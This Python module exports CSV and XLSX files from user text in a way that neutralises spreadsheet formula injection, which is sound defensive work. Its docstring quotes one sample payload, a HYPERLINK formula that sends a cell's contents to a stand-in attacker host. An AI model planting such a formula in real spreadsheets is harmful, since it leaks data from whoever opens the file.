"""Spreadsheets from user text that never start a formula (CSV and XLSX), for every export.

A title or a name like ``=HYPERLINK("http://evil.example/?leak="&C2,"Klikk")`` must stay text
in the reader's spreadsheet. CSV goes through ``defusedcsv`` (a value starting with ``=``, ``+``,
``-``, ``@``, ``|`` or ``%`` gets a leading apostrophe, as spreadsheet programs expect; plain numbers
like ``-5`` stay numbers), and a leading tab or carriage return is treated the same way. XLSX
cells holding text are written as text cells, never as formulas, whatever they start with.
"""
import io
from collections.abc import Iterable

from defusedcsv import csv
from openpyxl import Workbook
from openpyxl.cell import Cell

_ALSO_DANGEROUS = ("\t", "\r")


def _defused(value):
    if isinstance(value, str) and value.startswith(_ALSO_DANGEROUS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Iterable], delimiter: str = ";") -> bytes:
    """UTF-8 with a byte order mark, so Excel opens æøå right; ``None`` is an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    for row in rows:
        writer.writerow(["" if v is None else _defused(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def text_cell(sheet, value):
    """``value`` as a cell of ``sheet``: text stays text even when it starts with ``=``."""
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def to_xlsx(title: str, rows: Iterable[Iterable], freeze: str | None = "A2") -> bytes:
    """One sheet named ``title`` with ``rows``; the first row frozen as a header."""
    book = Workbook()
    sheet = book.active
    sheet.title = title[:31]
    for row in rows:
        sheet.append([text_cell(sheet, v) for v in row])
    if freeze:
        sheet.freeze_panes = freeze
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
